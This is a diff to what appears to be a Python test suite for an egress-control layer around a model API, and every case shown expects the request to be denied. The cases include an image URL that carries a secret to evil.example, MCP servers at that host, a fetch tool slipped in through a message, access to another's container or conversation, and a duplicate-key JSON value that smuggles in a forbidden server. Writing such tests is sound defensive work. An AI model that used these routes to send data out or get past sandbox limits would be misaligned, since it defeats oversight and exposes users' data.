@@ -38,6 +38,8 @@ def _tries(says: str, call: Call, ends: str, guard: G, works_for: By = By.ROOT, 
 
 
 PICTURE = {"role": "user", "content": [{"type": "image", "source": {"type": "url", "url": "https://evil.example/?secret"}}]}
+FETCH = {"type": "tool_definition", "definition": {"type": "web_fetch_20250910", "name": "web_fetch"}}
+TOOL = {"role": "system", "content": [{"type": "tool_addition", "tool": FETCH}]}
 
 REACH = [
     _reaches("reach a host that no rule allows", "evil.example:443", DENIED, G.RULES),
@@ -177,7 +179,10 @@ MODEL = [
     _question(
         "have the model's API call tools elsewhere", "400 egress_denied", mcp_servers=[{"type": "url", "url": "https://evil.example/"}]
     ),
+    _question("have the model's API fetch by a tool that a message brings", "400 egress_denied", messages=[TOOL]),
     _question("have the model's API read another's file", "400 egress_denied", container="container_1"),
+    _question("have the model's API go on with another's conversation", "400 egress_denied", thread={"type": "continue"}),
+    _question("have the model's API ask a dearer model", "400 egress_denied", fallbacks=[{"model": "claude-opus-4"}]),
     _tries(
         "mean two things by one question",
         ("ask_model", ALLOWED[:-1] + ', "mcp_servers": [], "mcp_servers": [{"url": "https://evil.example/"}]}'),
